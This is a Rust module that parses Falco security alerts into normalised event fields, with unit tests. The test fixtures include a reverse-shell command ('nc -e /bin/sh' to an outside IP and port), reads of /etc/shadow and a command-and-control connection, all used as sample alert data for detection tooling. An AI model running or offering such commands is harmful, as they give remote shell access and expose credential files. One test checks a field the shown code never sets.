//! Falco alerts written with `json_output: true` (file output, stdout, Falcosidekick): one JSON
//! object per line with `time`, `rule`, `priority`, `output`, `source`, `tags`, `hostname`
//! and `output_fields`, the values of the `%fields` the rule's output names.
//!
//! Originals: the top-level keys under their own names, and each `output_fields` entry under
//! its Falco field name (`proc.cmdline`, `fd.name`, `k8s.pod.name`, not
//! `output_fields.proc.cmdline`): Falco field names are the vocabulary rule writers know.
//! `<NA>` (Falco's "not available") is never normalized.
//!
//! Mapping (Falco "Supported Fields for Conditions and Outputs"):
//! - `time` → `@timestamp` (`evt.time` / `evt.time.iso8601` / `evt.rawtime` when absent),
//!   `rule` → `rule.name`, `output` → `message`, `hostname` → `host.name`;
//! - `evt.type` → `event.action` and `event.category` (process / file / network), `evt.res`
//!   / `evt.failed` → `event.outcome`;
//! - `proc.cmdline` → `process.command_line`, `proc.exepath` (else `proc.exe`, else
//!   `proc.name`) → `process.executable`, `proc.pid`, `proc.ppid`, `proc.pexepath` / `proc.pexe`
//!   / `proc.pname` → `process.parent.executable`, `proc.tty` → `process.interactive` (a
//!   controlling terminal is what `kubectl exec -it` and an SSH session give);
//! - `user.name`, `user.uid` → `user.id`; `container.id` (the 12-character short id; else
//!   `container.full_id` cut to it; never Falco's `host`) → `container.id`; `container.image.repository`:`container.image.tag`
//!   (else `container.image`) → `container.image.name`; `k8s.ns.name` / `k8s.pod.name` →
//!   `orchestrator.*`;
//! - `fd.name` → `file.path` unless the descriptor is a network socket; connection
//!   endpoints: client (`fd.cip`, `fd.cport`) → source and server (`fd.sip`, `fd.sport`) →
//!   destination; with only local / remote addresses, the local end is the source of an
//!   outbound call (`connect`, `sendto`, ...) and the destination of an inbound one
//!   (`accept`, `listen`, ...); an `fd.name` tuple `cip:cport->sip:sport` is read the same way;
//! - Kubernetes audit alerts (`ka.*`): `ka.user.name`, `ka.target.subresource` (else
//!   `ka.verb`) → `event.action`,
//!   `ka.target.namespace`, `ka.target.name` of pods, `ka.sourceips`, `ka.uri` → `url.full`.
//!
//! When `output_fields` lacks a value, the `key=value` pairs Falco's syscall rules print in
//! `output` (`user=`, `command=`, `container_id=`, `k8s_pod_name=`, ...) fill the gap. A value
//! runs to the next ` key=`, so a command line that itself contains ` word=` is cut there;
//! that is why this is only a fallback.

use serde_json::Value as J;

use super::hubble::{FlatParser, first_document, first_str, j_int};
use super::{Context, DecodeError, Decoder, Format, Framing, Sink};
use crate::event::{Event, Field, Nanos, parse_timestamp};

/// The Falco alert format.
pub const FORMAT: Format = Format {
    name: "falco",
    description: "Falco alerts (json_output: true), one JSON object per line",
    framing: Framing::Lines,
    detect,
    decoder: || Box::new(FalcoDecoder::default()),
};

fn detect(_name: &str, head: &[u8]) -> u8 {
    let doc = first_document(head);
    if !super::json::head_is_json_object(doc) {
        return 0;
    }
    let has = |k| super::json::head_has_key(doc, k);
    if has("rule") && has("output") && has("priority") {
        95
    } else {
        0
    }
}

#[derive(Debug, Default)]
struct FalcoDecoder {
    parser: FlatParser,
}

impl Decoder for FalcoDecoder {
    fn decode(&mut self, record: &[u8], offset: u64, ctx: &Context, out: &mut Sink) {
        super::hubble::push_flat(record, offset, ctx, out, &mut self.parser, decode_alert);
    }
}

/// Values the mapping reads, by their name in the alert.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Slot {
    Time,
    Rule,
    Output,
    Hostname,
    Source,
    EvtTime,
    EvtTimeIso,
    EvtTimeUnderscore,
    EvtRawtime,
    EvtType,
    EvtRes,
    EvtFailed,
    ProcCmdline,
    ProcExepath,
    ProcExe,
    ProcName,
    ProcPid,
    ProcPpid,
    ProcPexepath,
    ProcPexe,
    ProcPname,
    ProcTty,
    UserName,
    UserUid,
    ContainerId,
    ContainerFullId,
    ContainerImage,
    ContainerImageRepo,
    ContainerImageTag,
    K8sNs,
    K8sPod,
    FdName,
    FdType,
    FdL4proto,
    FdCip,
    FdSip,
    FdLip,
    FdRip,
    FdCport,
    FdSport,
    FdLport,
    FdRport,
    FdCipName,
    FdSipName,
    KaUser,
    KaVerb,
    KaNamespace,
    KaTargetName,
    KaTargetResource,
    KaTargetSubresource,
    KaSourceIps,
    KaUri,
    KaResponseCode,
}
const SLOTS: usize = Slot::KaResponseCode as usize + 1;

fn slot(name: &str) -> Option<Slot> {
    use Slot::*;
    Some(match name {
        "time" => Time,
        "rule" => Rule,
        "output" => Output,
        "hostname" => Hostname,
        "source" => Source,
        "evt.time" => EvtTime,
        "evt.time.iso8601" => EvtTimeIso,
        "evt_time" => EvtTimeUnderscore,
        "evt.rawtime" => EvtRawtime,
        "evt.type" => EvtType,
        "evt.res" => EvtRes,
        "evt.failed" => EvtFailed,
        "proc.cmdline" => ProcCmdline,
        "proc.exepath" => ProcExepath,
        "proc.exe" => ProcExe,
        "proc.name" => ProcName,
        "proc.pid" => ProcPid,
        "proc.ppid" => ProcPpid,
        "proc.pexepath" => ProcPexepath,
        "proc.pexe" => ProcPexe,
        "proc.pname" => ProcPname,
        "proc.tty" => ProcTty,
        "user.name" => UserName,
        "user.uid" => UserUid,
        "container.id" => ContainerId,
        "container.full_id" => ContainerFullId,
        "container.image" => ContainerImage,
        "container.image.repository" => ContainerImageRepo,
        "container.image.tag" => ContainerImageTag,
        "k8s.ns.name" => K8sNs,
        "k8s.pod.name" => K8sPod,
        "fd.name" => FdName,
        "fd.type" => FdType,
        "fd.l4proto" => FdL4proto,
        "fd.cip" => FdCip,
        "fd.sip" => FdSip,
        "fd.lip" => FdLip,
        "fd.rip" => FdRip,
        "fd.cport" => FdCport,
        "fd.sport" => FdSport,
        "fd.lport" => FdLport,
        "fd.rport" => FdRport,
        "fd.cip.name" => FdCipName,
        "fd.sip.name" => FdSipName,
        "ka.user.name" => KaUser,
        "ka.verb" => KaVerb,
        "ka.target.namespace" => KaNamespace,
        "ka.target.name" => KaTargetName,
        "ka.target.resource" => KaTargetResource,
        "ka.target.subresource" => KaTargetSubresource,
        "ka.sourceips" => KaSourceIps,
        "ka.uri" => KaUri,
        "ka.response.code" => KaResponseCode,
        _ => return None,
    })
}

const OUTPUT_FIELDS: &str = "output_fields.";

fn decode_alert(line: &str, offset: u64, parser: &mut FlatParser) -> Result<Event, DecodeError> {
    parser.parse(line, offset)?;
    let flat = &mut parser.flat;
    let mut at: [Option<usize>; SLOTS] = [None; SLOTS];
    for (i, (k, _)) in flat.iter_mut().enumerate() {
        let output_field = k.starts_with(OUTPUT_FIELDS);
        if output_field {
            k.replace_range(..OUTPUT_FIELDS.len(), "");
        }
        if let Some(s) = slot(k) {
            // A top-level key wins over an output field of the same name, wherever it sits.
            let cell = &mut at[s as usize];
            if output_field {
                cell.get_or_insert(i);
            } else {
                *cell = Some(i);
            }
        }
    }
    let get = |s: Slot| at[s as usize].and_then(|i| flat.get(i)).map(|(_, v)| v);
    // Falco prints `<NA>` for a field the event does not have.
    let get_str = |s: Slot| get(s).and_then(J::as_str).filter(|v| available(v));
    // Numbers in output_fields are JSON numbers or, for some fields, strings.
    let get_text = |s: Slot| {
        get(s).and_then(|v| match v {
            J::String(s) if available(s) => Some(s.clone()),
            J::Number(n) => Some(n.to_string()),
            _ => None,
        })
    };

    let Some(rule) = get_str(Slot::Rule) else {
        return Err(DecodeError::malformed(
            offset,
            "not a Falco alert: no `rule`",
        ));
    };
    let ts = get_str(Slot::Time).and_then(parse_timestamp).or_else(|| {
        [
            Slot::EvtTime,
            Slot::EvtTimeIso,
            Slot::EvtRawtime,
            Slot::EvtTimeUnderscore,
        ]
        .into_iter()
        .find_map(|s| get(s).and_then(event_time))
    });
    let Some(ts) = ts else {
        return Err(DecodeError::Timestamp {
            offset,
            reason: match get_str(Slot::Time) {
                Some(t) => format!("`time` is {t:?}"),
                None => "no `time` or `evt.time`".into(),
            },
        });
    };

    let mut ev = Event::new(ts);
    ev.set(Field::EventModule, "falco");
    ev.set(Field::EventDataset, "falco.alerts");
    ev.set(Field::RuleName, rule);
    if let Some(o) = get_str(Slot::Output) {
        ev.set(Field::Message, o);
    }
    if let Some(h) = get_str(Slot::Hostname) {
        ev.set(Field::HostName, h);
    }

    let evt_type = get_str(Slot::EvtType);
    if let Some(t) = evt_type {
        ev.set(Field::EventAction, t);
        if let Some(c) = category(t) {
            ev.set(Field::EventCategory, c);
        }
    }
    let failed = match (get_str(Slot::EvtRes), get(Slot::EvtFailed)) {
        (Some(res), _) => Some(res != "SUCCESS"),
        (None, Some(J::Bool(b))) => Some(*b),
        _ => None,
    };

    // Process.
    if let Some(c) = get_str(Slot::ProcCmdline) {
        ev.set(Field::ProcessCommandLine, c);
    }
    if let Some(x) = get_str(Slot::ProcExepath)
        .or(get_str(Slot::ProcExe))
        .or(get_str(Slot::ProcName))
    {
        ev.set(Field::ProcessExecutable, x);
    }
    if let Some(p) = get(Slot::ProcPid).and_then(j_int) {
        ev.set(Field::ProcessPid, p);
    }
    if let Some(p) = get(Slot::ProcPpid).and_then(j_int) {
        ev.set(Field::ProcessParentPid, p);
    }
    if let Some(x) = get_str(Slot::ProcPexepath)
        .or(get_str(Slot::ProcPexe))
        .or(get_str(Slot::ProcPname))
    {
        ev.set(Field::ProcessParentExecutable, x);
    }
    if let Some(tty) = get(Slot::ProcTty).and_then(j_int) {
        ev.set(Field::ProcessInteractive, tty != 0);
    }
    if let Some(u) = get_str(Slot::UserName) {
        ev.set(Field::UserName, u);
    }
    if let Some(uid) = get_text(Slot::UserUid) {
        ev.set(Field::UserId, uid);
    }

    // Container and Kubernetes.
    // The 12-character id every rule prints, so one container keeps one id across alerts
    // (other sources may give the full 64: compare on this prefix).
    if let Some(id) = get_str(Slot::ContainerId)
        .or(get_str(Slot::ContainerFullId).map(|full| full.get(..12).unwrap_or(full)))
        .filter(|id| *id != "host")
    {
        ev.set(Field::ContainerId, id);
    }
    match (
        get_str(Slot::ContainerImageRepo),
        get_str(Slot::ContainerImageTag),
    ) {
        (Some(repo), Some(tag)) => ev.set(Field::ContainerImageName, format!("{repo}:{tag}")),
        (Some(repo), None) => ev.set(Field::ContainerImageName, repo),
        (None, _) => {
            if let Some(image) = get_str(Slot::ContainerImage) {
                ev.set(Field::ContainerImageName, image);
            }
        }
    }
    if let Some(ns) = get_str(Slot::K8sNs) {
        ev.set(Field::OrchestratorNamespace, ns);
    }
    if let Some(pod) = get_str(Slot::K8sPod) {
        ev.set(Field::OrchestratorResourceName, pod);
    }

    // File descriptor: a file, or a connection's endpoints.
    let socket = matches!(get_str(Slot::FdType), Some("ipv4" | "ipv6"));
    let fd_name = get_str(Slot::FdName);
    let tuple = fd_name.and_then(parse_tuple);
    if let Some(path) = fd_name.filter(|_| !socket && tuple.is_none()) {
        ev.set(Field::FilePath, path);
    }
    let inbound = evt_type.is_some_and(|t| {
        matches!(
            t,
            "accept" | "accept4" | "listen" | "recvfrom" | "recvmsg" | "recvmmsg"
        )
    });
    // Client / server first; otherwise local / remote, by the call's direction.
    let (src_end, dst_end) = if inbound {
        ((Slot::FdRip, Slot::FdRport), (Slot::FdLip, Slot::FdLport))
    } else {
        ((Slot::FdLip, Slot::FdLport), (Slot::FdRip, Slot::FdRport))
    };
    let src_ip = get_text(Slot::FdCip).or_else(|| get_text(src_end.0));
    let src_port = get_text(Slot::FdCport).or_else(|| get_text(src_end.1));
    let dst_ip = get_text(Slot::FdSip).or_else(|| get_text(dst_end.0));
    let dst_port = get_text(Slot::FdSport).or_else(|| get_text(dst_end.1));
    let mut network = false;
    for (field, value) in [
        (Field::SourceIp, src_ip),
        (Field::DestinationIp, dst_ip),
        (Field::SourcePort, src_port),
        (Field::DestinationPort, dst_port),
    ] {
        if let Some(v) = value {
            network = true;
            ev.set(field, v);
        }
    }
    if let Some((sip, sport, dip, dport)) = tuple {
        network = true;
        ev.set_default(Field::SourceIp, sip);
        ev.set_default(Field::SourcePort, sport);
        ev.set_default(Field::DestinationIp, dip);
        ev.set_default(Field::DestinationPort, dport);
    }
    if let Some(n) = get_str(Slot::FdCipName) {
        ev.set(Field::SourceDomain, n);
    }
    if let Some(n) = get_str(Slot::FdSipName) {
        ev.set(Field::DestinationDomain, n);
    }
    if let Some(proto) = get_str(Slot::FdL4proto) {
        ev.set(Field::NetworkTransport, proto.to_ascii_lowercase());
    }
    if network || socket {
        ev.set_default(Field::EventCategory, "network");
    }

    // Kubernetes audit alerts (source k8s_audit).
    if let Some(u) = get_str(Slot::KaUser) {
        ev.set_default(Field::UserName, u);
    }
    // `exec` / `attach` / `portforward` say more than their verb (`create`).
    if let Some(v) = get_str(Slot::KaTargetSubresource).or(get_str(Slot::KaVerb)) {
        ev.set_default(Field::EventAction, v);
    }
    if let Some(ns) = get_str(Slot::KaNamespace) {
        ev.set_default(Field::OrchestratorNamespace, ns);
    }
    if get_str(Slot::KaTargetResource) == Some("pods")
        && let Some(name) = get_str(Slot::KaTargetName)
    {
        ev.set_default(Field::OrchestratorResourceName, name);
    }
    if let Some(ip) = get(Slot::KaSourceIps).and_then(source_ip) {
        ev.set_default(Field::SourceIp, ip);
    }
    if let Some(uri) = get_str(Slot::KaUri) {
        ev.set(Field::UrlFull, uri);
    }
    let failed = failed.or_else(|| get(Slot::KaResponseCode).and_then(j_int).map(|c| c >= 400));
    if let Some(f) = failed {
        ev.set(Field::EventOutcome, if f { "failure" } else { "success" });
    }

    // The `key=value` names of the fallback are those of the syscall rules; in other sources
    // (`k8s_audit`, cloud plugins) `command=` or `user=` mean something else.
    if get_str(Slot::Source).is_none_or(|s| s == "syscall")
        && let Some(output) = get_str(Slot::Output)
    {
        fill_from_output(&mut ev, output);
    }
    ev.original = parser.take();
    Ok(ev)
}

fn available(v: &str) -> bool {
    !v.is_empty() && v != "<NA>"
}

/// `evt.time`-style values: epoch nanoseconds as a number or string, or an ISO 8601 string.
fn event_time(v: &J) -> Option<Nanos> {
    match v {
        J::Number(n) => n
            .as_i64()
            .or_else(|| n.as_f64().map(|f| f as i64))
            .filter(|n| *n > 0),
        J::String(s) => parse_timestamp(s).or_else(|| s.parse::<i64>().ok().filter(|n| *n > 0)),
        _ => None,
    }
}

/// `event.category` for a syscall name.
fn category(evt_type: &str) -> Option<&'static str> {
    Some(match evt_type {
        "execve" | "execveat" | "clone" | "clone3" | "fork" | "vfork" | "procexit" | "kill"
        | "tkill" | "tgkill" | "ptrace" | "setuid" | "setgid" | "setresuid" | "setresgid"
        | "setreuid" | "setregid" | "setns" | "unshare" | "prctl" | "capset" => "process",
        "open" | "openat" | "openat2" | "creat" | "open_by_handle_at" | "unlink" | "unlinkat"
        | "rename" | "renameat" | "renameat2" | "mkdir" | "mkdirat" | "rmdir" | "chmod"
        | "fchmod" | "fchmodat" | "chown" | "lchown" | "fchown" | "fchownat" | "symlink"
        | "symlinkat" | "link" | "linkat" | "truncate" | "ftruncate" | "read" | "pread"
        | "readv" | "write" | "pwrite" | "writev" | "mount" | "umount" | "umount2"
        | "memfd_create" | "chdir" | "fchdir" => "file",
        "connect" | "accept" | "accept4" | "listen" | "bind" | "socket" | "socketpair"
        | "sendto" | "recvfrom" | "sendmsg" | "recvmsg" | "sendmmsg" | "recvmmsg" | "shutdown"
        | "getsockopt" | "setsockopt" => "network",
        _ => return None,
    })
}

/// A socket `fd.name` tuple `10.0.0.1:34567->10.0.0.2:22` (client -> server).
fn parse_tuple(name: &str) -> Option<(&str, &str, &str, &str)> {
    let (client, server) = name.split_once("->")?;
    let (cip, cport) = client.rsplit_once(':')?;
    let (sip, sport) = server.rsplit_once(':')?;
    let unbracket = |s: &str| s.trim_start_matches('[').trim_end_matches(']').to_owned();
    let ok = |ip: &str, port: &str| {
        crate::event::parse_ip(&unbracket(ip)).is_some() && port.parse::<u16>().is_ok()
    };
    (ok(cip, cport) && ok(sip, sport)).then_some((cip, cport, sip, sport))
}

/// The first address of `ka.sourceips` (an array, or a `[a,b]` string).
fn source_ip(v: &J) -> Option<String> {
    let s = first_str(v)?;
    s.trim_matches(|c| c == '[' || c == ']')
        .split([',', ' '])
        .find(|p| !p.is_empty())
        .map(str::to_owned)
}

/// Fill fields still empty from the `key=value` pairs of the formatted output.
fn fill_from_output(ev: &mut Event, output: &str) {
    let pairs = output_pairs(output);
    let find = |key: &str| {
        pairs
            .iter()
            .find(|(k, _)| *k == key)
            .map(|(_, v)| *v)
            .filter(|v| available(v))
    };
    for (field, keys) in [
        (Field::EventAction, &["evt_type"][..]),
        (Field::UserName, &["user"]),
        (Field::UserId, &["user_uid"]),
        (Field::ProcessCommandLine, &["command", "cmdline"]),
        (
            Field::ProcessExecutable,
            &["proc_exepath", "exepath", "proc_exe", "process"],
        ),
        (
            Field::ProcessParentExecutable,
            &["parent_exepath", "parent_exe", "parent"],
        ),
        (
            Field::OrchestratorNamespace,
            &["k8s_ns_name", "k8s_ns", "k8s.ns"],
        ),
        (
            Field::OrchestratorResourceName,
            &["k8s_pod_name", "k8s_pod", "k8s.pod"],
        ),
        (Field::FilePath, &["file"]),
    ] {
        if ev.value(field).is_none()
            && let Some(v) = keys.iter().find_map(|k| find(k))
        {
            ev.set(field, v);
        }
    }
    if ev.value(Field::EventCategory).is_none()
        && let Some(c) = ev.str(Field::EventAction).and_then(category)
    {
        ev.set(Field::EventCategory, c);
    }
    if ev.value(Field::ContainerId).is_none()
        && let Some(id) = find("container_id").filter(|id| *id != "host")
    {
        ev.set(Field::ContainerId, id);
    }
    if ev.value(Field::ContainerImageName).is_none() {
        match (
            find("container_image_repository").or(find("container_image")),
            find("container_image_tag"),
        ) {
            (Some(repo), Some(tag)) if !repo.contains(':') => {
                ev.set(Field::ContainerImageName, format!("{repo}:{tag}"))
            }
            (Some(image), _) => ev.set(Field::ContainerImageName, image),
            _ => {}
        }
    }
    if ev.value(Field::ProcessInteractive).is_none()
        && let Some(tty) = find("terminal").and_then(|t| t.parse::<i64>().ok())
    {
        ev.set(Field::ProcessInteractive, tty != 0);
    }
    if ev.value(Field::SourceIp).is_none()
        && let Some((sip, sport, dip, dport)) = find("connection").and_then(parse_tuple)
    {
        ev.set(Field::SourceIp, sip);
        ev.set(Field::SourcePort, sport);
        ev.set(Field::DestinationIp, dip);
        ev.set(Field::DestinationPort, dport);
        ev.set_default(Field::EventCategory, "network");
    }
}

/// `key=value` pairs of a Falco output line. A key is a lower-case word (with `_`, `.`,
/// digits and `[n]`) right after a space or `(`; its value runs to the next key.
fn output_pairs(output: &str) -> Vec<(&str, &str)> {
    let bytes = output.as_bytes();
    // (key start, '=' position)
    let mut keys: Vec<(usize, usize)> = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        let at_word_start = i == 0 || matches!(bytes.get(i - 1), Some(b' ' | b'('));
        if at_word_start && bytes.get(i).is_some_and(u8::is_ascii_lowercase) {
            let mut j = i;
            while bytes.get(j).is_some_and(|b| {
                b.is_ascii_lowercase()
                    || b.is_ascii_digit()
                    || matches!(b, b'_' | b'.' | b'[' | b']')
            }) {
                j += 1;
            }
            if bytes.get(j) == Some(&b'=') {
                keys.push((i, j));
                i = j + 1;
                continue;
            }
            i = j.max(i + 1);
            continue;
        }
        i += 1;
    }
    let mut pairs = Vec::with_capacity(keys.len());
    for (n, &(start, eq)) in keys.iter().enumerate() {
        let end = keys.get(n + 1).map_or(output.len(), |&(next, _)| next);
        let (Some(key), Some(value)) = (output.get(start..eq), output.get(eq + 1..end)) else {
            continue;
        };
        let mut value = value.trim_end();
        // The last pair of a `(... key=value)` group carries the closing parenthesis.
        if value.ends_with(')') && value.matches(')').count() > value.matches('(').count() {
            value = value.get(..value.len() - 1).unwrap_or(value).trim_end();
        }
        pairs.push((key, value));
    }
    pairs
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decode::testing::{ctx, decode_ok};

    const SHELL: &str = r#"{"hostname":"worker-3","output":"2024-04-10T09:15:02.118273645+0000: Notice A shell was spawned in a container with an attached terminal (evt_type=execve user=root user_uid=0 user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash parent=runc command=bash terminal=34817 exe_flags=EXE_WRITABLE container_id=4f1c2a9b7d3e container_image=registry.example.com/payments/api container_image_tag=2.4.1 container_name=api k8s_ns=payments k8s_pod_name=api-6c9d7b5f4-x2x9q)","output_fields":{"container.id":"4f1c2a9b7d3e","container.image.repository":"registry.example.com/payments/api","container.image.tag":"2.4.1","container.name":"api","evt.arg.flags":"EXE_WRITABLE","evt.time":1712740502118273645,"evt.type":"execve","k8s.ns.name":"payments","k8s.pod.name":"api-6c9d7b5f4-x2x9q","proc.cmdline":"bash","proc.exepath":"/usr/bin/bash","proc.name":"bash","proc.pname":"runc","proc.tty":34817,"user.loginuid":-1,"user.name":"root","user.uid":0},"priority":"Notice","rule":"Terminal shell in container","source":"syscall","tags":["T1059","container","maturity_stable","mitre_execution","shell"],"time":"2024-04-10T09:15:02.118273645Z"}"#;

    #[test]
    fn terminal_shell_alert() {
        let evs = decode_ok(&FORMAT, SHELL.as_bytes());
        let e = &evs[0];
        assert_eq!(e.timestamp, 1_712_740_502_118_273_645);
        assert_eq!(e.str(Field::RuleName), Some("Terminal shell in container"));
        assert_eq!(e.str(Field::EventAction), Some("execve"));
        assert_eq!(e.str(Field::EventCategory), Some("process"));
        assert_eq!(e.str(Field::ProcessExecutable), Some("/usr/bin/bash"));
        assert_eq!(e.str(Field::ProcessCommandLine), Some("bash"));
        assert_eq!(e.str(Field::ProcessParentExecutable), Some("runc"));
        assert_eq!(e.bool(Field::ProcessInteractive), Some(true));
        assert_eq!(e.str(Field::UserName), Some("root"));
        assert_eq!(e.str(Field::UserId), Some("0"));
        assert_eq!(e.str(Field::ContainerId), Some("4f1c2a9b7d3e"));
        assert_eq!(
            e.str(Field::ContainerImageName),
            Some("registry.example.com/payments/api:2.4.1")
        );
        assert_eq!(e.str(Field::OrchestratorNamespace), Some("payments"));
        assert_eq!(
            e.str(Field::OrchestratorResourceName),
            Some("api-6c9d7b5f4-x2x9q")
        );
        assert_eq!(e.str(Field::HostName), Some("worker-3"));
        assert_eq!(e.str(Field::EventModule), Some("falco"));
        assert!(e.str(Field::Message).unwrap().contains("attached terminal"));
        assert_eq!(e.original_str("proc.tty").as_deref(), Some("34817"));
        assert_eq!(
            e.original("tags").and_then(|t| t.get(0)),
            Some(&serde_json::json!("T1059"))
        );
        assert!(e.original("output_fields.proc.tty").is_none());
    }

    #[test]
    fn network_alert_endpoints() {
        let input = r#"{"output":"outbound ssh","priority":"Warning","rule":"Outbound SSH","time":"2024-04-10T09:16:00Z","output_fields":{"evt.type":"connect","fd.name":"10.12.0.7:50122->10.12.4.9:22","fd.type":"ipv4","fd.l4proto":"tcp","fd.lip":"10.12.0.7","fd.rip":"10.12.4.9","fd.lport":50122,"fd.rport":22,"evt.res":"SUCCESS","proc.tty":0}}"#;
        let e = &decode_ok(&FORMAT, input.as_bytes())[0];
        assert_eq!(e.ip(Field::SourceIp), Some("10.12.0.7".parse().unwrap()));
        assert_eq!(e.int(Field::SourcePort), Some(50122));
        assert_eq!(
            e.ip(Field::DestinationIp),
            Some("10.12.4.9".parse().unwrap())
        );
        assert_eq!(e.int(Field::DestinationPort), Some(22));
        assert_eq!(e.str(Field::NetworkTransport), Some("tcp"));
        assert_eq!(e.str(Field::EventCategory), Some("network"));
        assert_eq!(e.str(Field::EventOutcome), Some("success"));
        assert_eq!(e.str(Field::FilePath), None);
        assert_eq!(e.bool(Field::ProcessInteractive), Some(false));

        // Accepted connection: the remote end is the source.
        let input = r#"{"output":"x","priority":"Notice","rule":"Inbound","time":"2024-04-10T09:16:00Z","output_fields":{"evt.type":"accept4","fd.lip":"10.12.4.9","fd.rip":"10.12.0.7","fd.lport":22,"fd.rport":50122}}"#;
        let e = &decode_ok(&FORMAT, input.as_bytes())[0];
        assert_eq!(e.ip(Field::SourceIp), Some("10.12.0.7".parse().unwrap()));
        assert_eq!(e.int(Field::DestinationPort), Some(22));

        // Only the tuple.
        let input = r#"{"output":"x","priority":"Notice","rule":"C2","time":"2024-04-10T09:16:00Z","output_fields":{"fd.name":"10.12.0.7:40000->203.0.113.9:443"}}"#;
        let e = &decode_ok(&FORMAT, input.as_bytes())[0];
        assert_eq!(
            e.ip(Field::DestinationIp),
            Some("203.0.113.9".parse().unwrap())
        );
        assert_eq!(e.str(Field::NetworkDirection), Some("outbound"));
    }

    #[test]
    fn file_alert_and_failure() {
        let input = r#"{"output":"read shadow","priority":"Warning","rule":"Read sensitive file untrusted","time":"2024-04-10T09:17:00.5Z","output_fields":{"evt.type":"openat","fd.name":"/etc/shadow","evt.res":"EACCES","user.uid":1000,"proc.exe":"cat","container.id":"host"}}"#;
        let e = &decode_ok(&FORMAT, input.as_bytes())[0];
        assert_eq!(e.str(Field::FilePath), Some("/etc/shadow"));
        assert_eq!(e.str(Field::EventCategory), Some("file"));
        assert_eq!(e.str(Field::EventOutcome), Some("failure"));
        assert_eq!(e.str(Field::ProcessExecutable), Some("cat"));
        assert_eq!(e.str(Field::UserId), Some("1000"));
        assert_eq!(e.str(Field::ContainerId), None);
    }

    #[test]
    fn output_is_the_fallback() {
        let input = r#"{"output":"09:00:01.000000001: Critical Executing binary not part of base image | proc_exe=nc gparent=bash evt_type=execve user=app user_uid=1001 process=nc proc_exepath=/tmp/nc parent=sh command=nc -e /bin/sh 198.51.100.7 4444 terminal=0 container_id=9a8b7c6d5e4f container_image_repository=alpine container_image_tag=3.19 k8s_pod_name=web-1 k8s_ns_name=shop","output_fields":{"evt_time":1712739601000000001},"hostname":"node-9","rule":"Drop and execute new binary in container","source":"syscall","priority":"Critical","tags":["TA0003"]}"#;
        let e = &decode_ok(&FORMAT, input.as_bytes())[0];
        assert_eq!(e.timestamp, 1_712_739_601_000_000_001);
        assert_eq!(e.str(Field::EventAction), Some("execve"));
        assert_eq!(e.str(Field::EventCategory), Some("process"));
        assert_eq!(e.str(Field::ProcessExecutable), Some("/tmp/nc"));
        assert_eq!(
            e.str(Field::ProcessCommandLine),
            Some("nc -e /bin/sh 198.51.100.7 4444")
        );
        assert_eq!(e.str(Field::UserName), Some("app"));
        assert_eq!(e.str(Field::ContainerImageName), Some("alpine:3.19"));
        assert_eq!(e.str(Field::OrchestratorResourceName), Some("web-1"));
        assert_eq!(e.str(Field::OrchestratorNamespace), Some("shop"));
        assert_eq!(e.bool(Field::ProcessInteractive), Some(false));
    }

    #[test]
    fn output_pairs_split_on_keys() {
        let pairs = output_pairs(
            "Msg (file=/etc/shadow command=cat -n /etc/shadow terminal=0 k8s_pod=<NA>)",
        );
        assert_eq!(
            pairs,
            vec![
                ("file", "/etc/shadow"),
                ("command", "cat -n /etc/shadow"),
                ("terminal", "0"),
                ("k8s_pod", "<NA>")
            ]
        );
    }

    #[test]
    fn kubernetes_audit_alert() {
        let input = r#"{"output":"Attach/Exec to pod (user=dev@example.com pod=db-0 command=sh)","priority":"Notice","rule":"Attach/Exec Pod","source":"k8saudit","time":"2024-04-10T09:18:00Z","output_fields":{"ka.user.name":"dev@example.com","ka.verb":"create","ka.target.resource":"pods","ka.target.subresource":"exec","ka.target.name":"db-0","ka.target.namespace":"data","ka.sourceips":["192.0.2.44"],"ka.uri":"/api/v1/namespaces/data/pods/db-0/exec?command=sh","ka.response.code":101}}"#;
        let e = &decode_ok(&FORMAT, input.as_bytes())[0];
        assert_eq!(e.str(Field::UserName), Some("dev@example.com"));
        assert_eq!(e.str(Field::EventAction), Some("exec"));
        // The syscall-rule fallback does not read `command=` of an audit alert.
        assert_eq!(e.str(Field::ProcessCommandLine), None);
        assert_eq!(e.str(Field::OrchestratorResourceName), Some("db-0"));
        assert_eq!(e.ip(Field::SourceIp), Some("192.0.2.44".parse().unwrap()));
        assert_eq!(e.str(Field::EventOutcome), Some("success"));
    }

    #[test]
    fn malformed_records_are_errors() {
        let input = b"{\"rule\":\"r\",\"output\":\"o\",\"priority\":\"p\"}\n{\"output\":\"o\"}\n{bad\n\x80\n";
        let sink = crate::decode::decode_all(&FORMAT, input, &ctx());
        assert!(sink.events.is_empty());
        assert_eq!(sink.errors.len(), 4);
        assert!(matches!(sink.errors[0], DecodeError::Timestamp { .. }));
    }

    #[test]
    fn detection() {
        assert_eq!(detect("events.log", SHELL.as_bytes()), 95);
        assert_eq!(detect("x", br#"{"rule":"r","time":"t"}"#), 0);
        assert_eq!(detect("x", br#"{"flow":{"verdict":"FORWARDED"}}"#), 0);
        assert_eq!(detect("x", b"rule output priority"), 0);
    }
}
